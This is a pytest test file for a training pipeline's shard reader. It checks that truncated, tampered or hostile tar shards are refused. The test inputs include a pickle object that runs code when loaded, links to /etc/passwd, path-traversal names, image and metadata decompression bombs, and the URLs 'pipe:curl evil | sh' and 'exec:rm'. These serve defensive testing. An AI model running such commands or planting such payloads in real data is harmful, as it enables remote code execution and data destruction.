"""Damaged or hostile shard folders, read by training: refused, with shard and sample.

The index agrees with the tar wherever possible, as if both were written by the same attacker.
"""

import gzip
import io
import json
import os
import pickle
import re
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image
from support.data import contents, noise_image, write_shards

from pipeline.config import Config, DataConfig
from pipeline.data import balance
from pipeline.data.dataset import DetectionDataset
from pipeline.errors import ShardError
from pipeline.evaluation import gallery

KEY = "000000000003"  # of sample 0, in shard 0
RECORD = {"image_id": 3, "width": 64, "height": 48, "annotations": []}


@pytest.fixture
def data(tmp_path: Path) -> DetectionDataset:
    return DetectionDataset(write_shards(tmp_path).folder)


def shard(data: DetectionDataset, number: int = 0) -> Path:
    return Path(data.index.folder) / data.index.shards[number].name


def jpeg(size: tuple[int, int] = (48, 64)) -> bytes:
    buffer = io.BytesIO()
    noise_image(size, 0).save(buffer, "JPEG")
    return buffer.getvalue()


def member(name: str, content: bytes, kind: bytes = tarfile.REGTYPE, **fields: Any) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size, info.type = len(content), kind
    for field, value in fields.items():
        setattr(info, field, value)
    return info, content


def point(data: DetectionDataset, **columns: int) -> None:
    """Change the index's row of sample 0."""
    changed = {name: getattr(data.index.samples, name).copy() for name in columns}
    for name, value in columns.items():
        changed[name][0] = value
    data.index = replace(data.index, samples=replace(data.index.samples, **changed))


def resize(data: DetectionDataset) -> None:
    """Set the size of shard 0 in the index to its real size."""
    shards = (replace(data.index.shards[0], bytes=shard(data).stat().st_size), *data.index.shards[1:])
    data.index = replace(data.index, shards=shards)


def rewrite(data: DetectionDataset, *members: tuple[tarfile.TarInfo, bytes]) -> None:
    """Replace shard 0 by a tar of two members: the image and the record of sample 0."""
    buffer, places = io.BytesIO(), []
    for info, content in members:
        buffer.write(info.tobuf(tarfile.USTAR_FORMAT))
        places.append((buffer.tell(), len(content)))
        buffer.write(content + bytes(-len(content) % 512))
    buffer.write(bytes(1024))
    shard(data).write_bytes(buffer.getvalue())
    resize(data)
    (offset, length), (json_offset, json_length) = places
    point(data, offset=offset, length=length, json_offset=json_offset, json_length=json_length, boxes=0)


def usual(**record: Any) -> tuple[tarfile.TarInfo, bytes]:
    return member(f"{KEY}.json", json.dumps(RECORD | record).encode())


def refused(data: DetectionDataset, message: str) -> None:
    """Check that sample 0 is refused with shard, sample and advice, and that nothing is written."""
    before = contents(Path(data.index.folder).parent)
    with pytest.raises(ShardError, match=message) as raised:
        data.sample(0)
    assert data.index.shards[0].name in str(raised.value)
    assert KEY in str(raised.value)
    assert "jobs.shard verify" in str(raised.value)
    assert contents(Path(data.index.folder).parent) == before


def test_sample_rewritten_shard_is_read(data: DetectionDataset) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()), usual())
    assert data.sample(0).image.size == (64, 48)


@pytest.mark.parametrize("size", [lambda n: n // 1024 * 512, lambda n: n - 512, lambda n: n + 512, lambda n: 0])
def test_sample_shard_of_another_size_raises(data: DetectionDataset, size: Callable[[int], int]) -> None:
    """Plain readers silently accept a tar that was cut on a block boundary."""
    os.truncate(shard(data), size(shard(data).stat().st_size))
    refused(data, r"has [\d,]+ bytes, its index says [\d,]+: it is truncated")


def test_sample_cut_shard_raises(data: DetectionDataset) -> None:
    last = int(np.flatnonzero(data.index.samples.shard == 0)[-1])
    os.truncate(shard(data), int(data.index.samples.offset[last]) - 512)
    resize(data)
    data.sample(0)
    with pytest.raises(ShardError, match=f"{data.index.samples.image_id[last]:012d}"):
        data.sample(last)


def test_sample_missing_shard_raises(data: DetectionDataset) -> None:
    shard(data).unlink()
    with pytest.raises(ShardError, match=rf"000000\.tar.*{KEY}"):
        data.sample(0)


def test_sample_bytes_of_another_sample_raise(data: DetectionDataset) -> None:
    shard(data).write_bytes(shard(data).read_bytes().replace(KEY.encode(), b"000000000004"))
    refused(data, rf"{KEY} is not where the index says \(no {KEY}\.jpg there\)")


@pytest.mark.parametrize(
    "name", [f"{KEY}.pyd", f"{KEY}.pickle", f"../{KEY}.jpg", f"/{KEY}.jpg", f"{KEY}.jpg.gz", f"x/{KEY}.jpg", "a" * 99]
)
def test_sample_foreign_member_raises(data: DetectionDataset, name: str) -> None:
    rewrite(data, member(name, jpeg()), usual())
    refused(data, f"is not where the index says \\(no {KEY}.jpg there\\)")


def test_sample_name_with_prefix_raises(data: DetectionDataset) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()), usual())
    content = bytearray(shard(data).read_bytes())
    content[345:355] = b"../../evil"
    shard(data).write_bytes(content)
    refused(data, "is not where the index says")


@pytest.mark.parametrize(
    "kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE]
)
def test_sample_link_or_device_raises(data: DetectionDataset, kind: bytes) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg(), kind, linkname="/etc/passwd"), usual())
    refused(data, "is not a plain file in its tar|has another length in its tar|is not where")


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME, tarfile.GNUTYPE_SPARSE, b"A"])
def test_sample_extension_header_raises(data: DetectionDataset, kind: bytes) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg(), kind), usual())
    refused(data, "is not a plain file in its tar")


@pytest.mark.parametrize("field", [b"77777777777\0", b"\x80" + bytes(10) + b"\xff", b"not a size..", b"00000000000\0"])
def test_sample_header_with_another_size_raises(data: DetectionDataset, field: bytes) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()), usual())
    content = bytearray(shard(data).read_bytes())
    content[124:136] = field
    shard(data).write_bytes(content)
    refused(data, "has another length in its tar than in the index")


@pytest.mark.parametrize(
    "row",
    [
        {"length": 2**40},
        {"length": 0},
        {"length": -5},
        {"offset": -1},
        {"offset": 100},
        {"offset": 2**60},
        {"json_length": 2**40},
        {"json_length": 17 * 2**20},
        {"json_offset": 0},
    ],
)
def test_sample_impossible_offset_in_index_raises(data: DetectionDataset, row: dict[str, int]) -> None:
    point(data, **row)
    refused(data, "has an impossible length")


def test_sample_compressed_tar_is_not_inflated(data: DetectionDataset) -> None:
    packed = gzip.compress(shard(data).read_bytes(), compresslevel=0)
    shard(data).write_bytes(packed)
    resize(data)
    refused(data, "is not where the index says")


class Bomb:
    """Creates a file when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.mark),)


@pytest.mark.parametrize("content", [gzip.compress(jpeg()), b"GIF89a" + bytes(100), b"x"])
def test_sample_other_content_raises(data: DetectionDataset, content: bytes) -> None:
    rewrite(data, member(f"{KEY}.jpg", content), usual())
    refused(data, "is neither JPEG nor PNG")


def test_sample_pickle_is_not_loaded(data: DetectionDataset, tmp_path: Path) -> None:
    bomb = pickle.dumps(Bomb(tmp_path / "unpickled"))
    rewrite(data, member(f"{KEY}.jpg", jpeg()), member(f"{KEY}.json", bomb))
    refused(data, "has no annotation record")
    rewrite(data, member(f"{KEY}.jpg", bomb), usual())
    refused(data, "is neither JPEG nor PNG")
    assert not (tmp_path / "unpickled").exists()


def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG that claims a size, with chunks before its empty body."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = [(b"IHDR", header), *chunks, (b"IDAT", zlib.compress(b"")), (b"IEND", b"")]
    packed = [struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in body]
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


@pytest.mark.parametrize(("width", "height"), [(60_000, 60_000), (9_000, 9_000), (2**31 - 1, 1)])
def test_sample_pixel_bomb_is_refused_by_header(data: DetectionDataset, width: int, height: int) -> None:
    record = {"width": width, "height": height}
    rewrite(data, member(f"{KEY}.png", png(width, height)), usual(**record))
    point(data, png=1, **record)
    refused(data, "pixels|broken png header")


def test_sample_metadata_bomb_is_not_inflated(data: DetectionDataset) -> None:
    text = b"comment\0\0" + zlib.compress(bytes(200 * 2**20))
    rewrite(data, member(f"{KEY}.png", png(64, 48, (b"zTXt", text))), usual())
    point(data, png=1)
    refused(data, "broken png header|does not decode")


def test_sample_image_of_another_size_raises(data: DetectionDataset) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg((50, 64))), usual())
    refused(data, "is 64 x 50 pixels but its annotation says 64 x 48")


def test_sample_truncated_image_raises(data: DetectionDataset) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()[:-200]), usual())
    refused(data, "does not decode")


NESTED = b"[" * 100_000 + b"]" * 100_000


@pytest.mark.parametrize(
    ("record", "message"),
    [
        (b"", "impossible length 0"),
        (NESTED, "no annotation record"),
        (b'{"image_id":3,"width":64,"height":48,"annotations":' + NESTED + b"}", "no annotation record"),
        (b"null", "no annotation record"),
        (b'{"image_id":3', "no annotation record"),
        (b'{"image_id":' + b"9" * 10_000 + b"}", "no annotation record"),
        (json.dumps(RECORD | {"image_id": 4}).encode(), "annotation record of another image"),
        (json.dumps(RECORD | {"width": 65}).encode(), "annotation record of another image"),
        (json.dumps(RECORD | {"width": float("nan")}).encode(), "NaN"),
    ],
)
def test_sample_invalid_record_raises(data: DetectionDataset, record: bytes, message: str) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()), member(f"{KEY}.json", record))
    refused(data, message)


GOOD = {"id": 1, "category_id": 13, "bbox": [4, 6, 12, 10], "area": 120, "iscrowd": 0}


@pytest.mark.parametrize(
    "change",
    [
        {"bbox": "4,6"},
        {"bbox": [4, 6, 12]},
        {"bbox": [4, 6, 12, 10, 1, 1, 1, 1]},
        {"bbox": [4, 6, None, 10]},
        {"bbox": [[4], 6, 12, 10]},
        {"bbox": [10**400, 6, 12, 10]},
        {"category_id": 12},
        {"category_id": [13]},
        {"iscrowd": 1},
    ],
)
def test_sample_malformed_annotation_raises(data: DetectionDataset, change: dict[str, Any]) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()), usual(annotations=[GOOD | change]))
    point(data, boxes=1)
    refused(data, "malformed annotation|boxes, the index says|no annotation record")


def test_annotation_without_a_field_is_named_wherever_only_the_record_is_read(
    data: DetectionDataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()), usual(annotations=[{"id": 1, "category_id": 13, "iscrowd": 0}]))
    for module in (balance, gallery):
        monkeypatch.setattr(module, "DetectionDataset", lambda *_: data)
    config = Config(data=DataConfig(balance=0.1))
    for read in (lambda: balance.read_factors(config.data), gallery.Samples(config, gallery.Choice(1, 0)).items):
        with pytest.raises(ShardError, match=f"{KEY} has a malformed annotation.*bbox"):
            read()


@pytest.mark.parametrize("annotations", [5, {"a": 1}, ["x"], [[]], [{}]])
def test_sample_invalid_annotations_raise(data: DetectionDataset, annotations: Any) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()), usual(annotations=annotations))
    refused(data, "malformed annotation")


def test_sample_other_number_of_boxes_raises(data: DetectionDataset) -> None:
    rewrite(data, member(f"{KEY}.jpg", jpeg()), usual(annotations=[GOOD]))
    refused(data, "has 1 boxes, the index says 0")


@pytest.mark.parametrize("url", ["pipe:cat x", "pipe:curl evil | sh", "-", "", "file:x", "exec:rm"])
def test_dataset_pipe_url_is_refused(url: str) -> None:
    with pytest.raises(ShardError, match=re.escape(f"'{url}'")):
        DetectionDataset(url)


@pytest.mark.parametrize(
    ("key", "value"), [("sha256", "../../evil"), ("sha256", ""), ("name", "../evil.tar"), ("name", "a/b.tar")]
)
def test_dataset_shard_name_outside_folder_is_refused(data: DetectionDataset, key: str, value: str) -> None:
    """The name of a shard becomes a path, and its sha256 the name of a file in the cache."""
    path = Path(data.index.folder) / "index.json"
    document = json.loads(path.read_text())
    document["shards"][0][key] = value
    path.write_text(json.dumps(document))
    with pytest.raises(ShardError, match=r"index\.json"):
        DetectionDataset(data.index.folder)


def test_sample_grayscale_image_is_rgb(data: DetectionDataset) -> None:
    buffer = io.BytesIO()
    Image.new("L", (64, 48), 7).save(buffer, "JPEG")
    rewrite(data, member(f"{KEY}.jpg", buffer.getvalue()), usual())
    assert data.sample(0).image.getpixel((0, 0)) == (7, 7, 7)
